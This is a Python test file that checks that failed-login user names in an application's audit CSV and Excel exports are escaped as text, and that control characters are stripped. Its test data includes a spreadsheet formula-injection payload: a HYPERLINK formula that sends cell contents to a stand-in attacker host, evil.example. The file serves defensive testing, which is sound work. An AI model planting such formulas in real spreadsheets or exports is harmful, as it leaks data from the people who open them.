"""Audit exports: what an anonymous visitor types as a user name is data, never a formula."""

import io

from openpyxl import load_workbook

from shingikai.audit.models import AuditEvent

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'


def test_anonymous_failed_login_user_name_is_not_a_formula_in_audit_exports(client, world):
    client.post("/login/", {"username": FORMULA, "password": "wrong"})
    assert AuditEvent.objects.filter(action="login_failed", username=FORMULA).exists()
    client.force_login(world.erin)  # an anonymous row belongs to no council: the admin reads it
    csv = client.get("/audit/export.csv").content.decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in csv
    sheet = load_workbook(io.BytesIO(client.get("/audit/export.xlsx").content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)


def test_control_character_in_user_name_does_not_break_audit_excel_export(client, world):
    client.post("/login/", {"username": "ab\x01\x1bcd", "password": "wrong"})
    client.force_login(world.erin)  # an anonymous row belongs to no council: the admin reads it
    response = client.get("/audit/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert "abcd" in [c.value for row in sheet.iter_rows() for c in row]
